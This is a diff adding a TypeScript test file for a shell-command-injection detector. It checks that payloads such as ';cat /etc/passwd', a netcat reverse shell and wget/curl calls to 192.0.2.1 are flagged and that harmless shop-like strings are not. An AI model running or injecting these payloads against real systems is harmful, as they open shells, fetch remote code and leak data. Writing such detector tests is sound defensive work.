@@ -1,0 +1,92 @@
+import { describe, expect, it } from 'vitest';
+import { wordsFound } from '../testing/words-found.ts';
+import { detectShell } from './detect-shell.ts';
+
+const words = (text: string) => wordsFound(detectShell, text);
+
+describe('detectShell', () => {
+  it.each([
+    ';cat /etc/passwd',
+    '|id',
+    ';id;',
+    'a|id',
+    '127.0.0.1;ls -la',
+    '127.0.0.1 && ping -c 3 192.0.2.1',
+    '127.0.0.1\nwhoami',
+    ';wget http://192.0.2.1/a.sh -O /tmp/a',
+    ';nc -e /bin/sh 192.0.2.1 4444',
+    '|dir c:\\',
+    '& timeout /t 10 &',
+    ";c'a't /e't'c/passwd",
+    ';ca\\t /etc/passwd',
+    ';sleep 10',
+    ';/usr/bin/id',
+    '/index.html|id|',
+    '"; uname -a; "',
+    ';netstat -an',
+    ';python -c "import os"',
+    '|net user',
+  ])('finds a command after a separator in %s', (text) => {
+    expect(words(text)).toContain('command-after-separator');
+  });
+
+  it.each([
+    '$(id)',
+    '`whoami`',
+    '$(curl 192.0.2.1)',
+    '`sleep 5`',
+    '|curl http://192.0.2.1/$(whoami)',
+    '"`id`"',
+  ])('finds a substitution in %s', (text) => {
+    expect(words(text)).toContain('command-substitution');
+  });
+
+  it.each([';cat${IFS}/etc/passwd', ';cat$IFS/etc/passwd', '{cat,/etc/passwd}', ';echo A$((11+22))B'])(
+    'finds an expansion in %s',
+    (text) => {
+      expect(words(text)).toContain('shell-expansion');
+    },
+  );
+
+  it.each([
+    'cat /etc/passwd',
+    '/usr/bin/id',
+    'ping -i 30 127.0.0.1',
+    'cmd /c whoami',
+    'powershell -enc SQBFAFgA',
+    'dir c:\\',
+  ])('finds a whole command line: %s', (text) => {
+    expect(words(text)).toContain('command-line');
+  });
+
+  it.each([
+    'dog | cat',
+    'cat;dog',
+    'dog;cat',
+    'Tom & Jerry',
+    'A && B',
+    'fields=name|id',
+    'name|id|price',
+    'id',
+    'id card holder',
+    'mask;sleep',
+    'mask;sleep 2024',
+    'xbox;ps5',
+    'fish & chips | sauce',
+    'black|sort',
+    'head & shoulders',
+    'time; date',
+    'ping pong -セット',
+    'sort -price',
+    'cat -dog',
+    'curl;wave',
+    '$(document)',
+    '`code`',
+    'rm -rf とは',
+    'S|M|L',
+    '$100',
+    'who; what',
+  ])('leaves %s alone', (text) => {
+    expect(words(text)).toEqual([]);
+  });
+});
